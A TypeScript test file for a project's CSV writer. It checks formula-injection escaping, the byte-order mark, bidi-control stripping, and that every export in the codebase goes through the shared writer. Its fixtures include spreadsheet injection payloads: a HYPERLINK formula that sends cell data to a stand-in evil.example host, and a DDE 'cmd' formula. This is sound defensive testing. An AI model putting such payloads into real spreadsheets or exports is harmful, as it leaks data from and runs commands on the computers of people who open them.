// The project's one CSV writer (src/contract/csv.ts): the byte-order mark, a cell a spreadsheet
// would run as a formula written with a leading apostrophe, plain numbers left as numbers; and a
// check over src/ and server/src that no CSV is written any other way, so no export can skip it.
import { readdirSync, readFileSync } from 'node:fs';
import path from 'node:path';
import Papa from 'papaparse';
import { csvHead, csvLines, csvText, isFormulaCell } from '../../../src/contract/csv';

/** The cells of a CSV text, as a spreadsheet app's importer reads them (BOM dropped). */
const cells = (text: string) => Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { newline: '\r\n' }).data;

describe('csvText', () => {
  it('starts with a UTF-8 byte-order mark and ends lines with CRLF', () => {
    const text = csvText(
      ['نام', 'port'],
      [
        ['آلمان', 443],
        ['x', null],
      ],
    );
    expect(text.charCodeAt(0)).toBe(0xfeff);
    expect(text.slice(1).split('\r\n')).toEqual(['نام,port', 'آلمان,443', 'x,']);
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', `'=HYPERLINK("http://evil.example/?"&A1,"click")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1+cmd', "'+1+cmd"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    // papaparse's own pattern misses these: `.` stops at the line break
    ['=1+1\nsecond line', "'=1+1\nsecond line"],
    ['-5\n=1+1', "'-5\n=1+1"],
    ['-', "'-"],
    ['+', "'+"],
  ])('writes %j so that a spreadsheet reads it as the text %j', (cell, shown) => {
    const text = csvText(['h'], [[cell]]);
    expect(cells(text)[1]).toEqual([shown]);
    expect(isFormulaCell(cell)).toBe(true);
  });

  it.each([
    [-5, '-5'],
    ['-5', '-5'],
    ['+98', '+98'],
    ['-1.25', '-1.25'],
    ['-.5', '-.5'],
    ['2e3', '2e3'],
    ['-1E-3', '-1E-3'],
    [0, '0'],
    [true, 'true'],
    ['a=b', 'a=b'],
    [' =1+1', ' =1+1'],
    ['{"model":"=1+1"}', '{"model":"=1+1"}'],
    ['vless://id@host:443#-x', 'vless://id@host:443#-x'],
    ['', ''],
  ])('leaves %j as %j (a plain number or text that is not a formula)', (cell, shown) => {
    expect(cells(csvText(['h'], [[cell]]))[1]).toEqual([shown]);
    expect(isFormulaCell(cell)).toBe(false);
  });

  it('guards the header row too', () => {
    expect(cells(csvText(['=evil()'], []))[0]).toEqual(["'=evil()"]);
  });

  it('drops bidi controls (LRM, RLM, ALM, embeddings, overrides, isolates) from headers and cells, then guards what is left', () => {
    const text = csvText(
      ['کلید \u2066API\u2069', '\u200Fنام'],
      [
        ['\u202E=1+1', 'a\u200Eb\u061Cc\u202A\u202B\u202C\u202D\u2067\u2068d'],
        ['\u2066-5\u2069', 'نیم\u200Cفاصله'],
      ],
    );
    expect(text).not.toMatch(/[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
    expect(cells(text)).toEqual([
      ['کلید API', 'نام'],
      ["'=1+1", 'abcd'],
      ['-5', 'نیم\u200Cفاصله'],
    ]);
    expect(isFormulaCell('\u202E=1+1')).toBe(true);
  });

  it('writes dates as ISO 8601 and numbers with Latin digits', () => {
    expect(
      cells(
        csvText(
          ['at', 'n'],
          [
            [new Date('2024-03-20T10:00:00Z'), 1234.5],
            [new Date(Number.NaN), -7],
          ],
        ),
      ),
    ).toEqual([
      ['at', 'n'],
      ['2024-03-20T10:00:00.000Z', '1234.5'],
      ['', '-7'],
    ]);
  });

  it('writes a file a batch at a time: csvHead then csvLines is csvText with a final line end', () => {
    const rows = [
      ['=x', 2],
      ['y', null],
    ] as const;
    expect(csvHead(['a', 'b']) + csvLines(rows.slice(0, 1)) + csvLines([]) + csvLines(rows.slice(1))).toBe(`${csvText(['a', 'b'], rows)}\r\n`);
    expect(csvHead(['a']).charCodeAt(0)).toBe(0xfeff);
  });
});

// ---------------------------------------------------------------------------------------------
// The class, anywhere: every CSV the code writes goes through csvText.

const root = path.resolve(__dirname, '../../..');
const SHARED = 'src/contract/csv.ts';
const SOURCE = /\.(ts|tsx|js|mjs|cjs)$/;

function sources(dir: string, out: string[] = []): string[] {
  for (const entry of readdirSync(path.join(root, dir), { withFileTypes: true })) {
    const rel = `${dir}/${entry.name}`;
    if (entry.isDirectory()) sources(rel, out);
    else if (SOURCE.test(entry.name)) out.push(rel);
  }
  return out;
}
const files = [...sources('src'), ...sources('server/src')].map((rel) => ({ rel, text: readFileSync(path.join(root, rel), 'utf8') }));

/** CSV writers other than papaparse that would bypass the guard if imported. */
const OTHER_WRITERS =
  /from\s+['"](?:csv-stringify|csv-writer|json2csv|@json2csv\/[^'"]+|fast-csv|@fast-csv\/format|export-to-csv|react-csv|objects-to-csv|papaparse\/[^'"]+)['"]/;
/**
 * A file that hands out CSV: a CSV content type, or a file name ending in .csv given to a download
 * (an <a download>, a Blob, a Content-Disposition). Accept attributes of a file input read CSV and are left out.
 */
const WRITES_CSV = /text\/csv|\.csv[`'"]/;
/** Files that name CSV without writing one, and why. A new entry needs a reason. */
const READS_ONLY: Record<string, string> = {
  'src/features/servers/components/profiles/profile-import.tsx': 'the import form: a file input that accepts CSV, and a link to the static sample file',
};
/**
 * How a file that hands out CSV gets its text: the shared writer (whole, or a batch at a time for the
 * server's streamed exports), the data table's toCsv, which calls it, or the server's csvStream,
 * which calls csvHead and csvLines.
 */
const USES_SHARED = /\bcsvText\(|\btoCsv\(|\bcsvHead\(|\bcsvLines\(|\bcsvStream\(/;

describe('every CSV is written by src/contract/csv.ts', () => {
  it('finds the sources (the check is not vacuous)', () => {
    expect(files.length).toBeGreaterThan(100);
    expect(files.some((f) => f.rel === SHARED)).toBe(true);
    expect(files.filter((f) => WRITES_CSV.test(f.text)).map((f) => f.rel)).toEqual(
      expect.arrayContaining(['src/components/data-table/rows.ts', 'src/components/data-table/use-list.ts', 'server/src/http/csv-stream.ts']),
    );
  });

  it("calls papaparse's unparse nowhere else", () => {
    const elsewhere = files.filter((f) => f.rel !== SHARED && /\bunparse\b/i.test(f.text)).map((f) => f.rel);
    expect(elsewhere).toEqual([]);
  });

  it('imports no other CSV writer', () => {
    expect(files.filter((f) => OTHER_WRITERS.test(f.text)).map((f) => f.rel)).toEqual([]);
  });

  it('gets the text of every CSV download or response from csvText (or toCsv, which calls it)', () => {
    const unguarded = files
      .filter((f) => f.rel !== SHARED && !(f.rel in READS_ONLY))
      .filter((f) => WRITES_CSV.test(f.text) && !USES_SHARED.test(f.text))
      .map((f) => f.rel);
    expect(unguarded).toEqual([]);
    // ...and toCsv is the data table's thin wrapper around csvText
    const rows = files.find((f) => f.rel === 'src/components/data-table/rows.ts')!.text;
    expect(rows).toMatch(/export function toCsv[\s\S]*?return csvText\(/);
    // ...and csvStream writes the server's streamed exports with csvHead and csvLines
    const stream = files.find((f) => f.rel === 'server/src/http/csv-stream.ts')!.text;
    expect(stream).toMatch(/export function csvStream[\s\S]*?csvHead\([\s\S]*?csvLines\(/);
  });
});
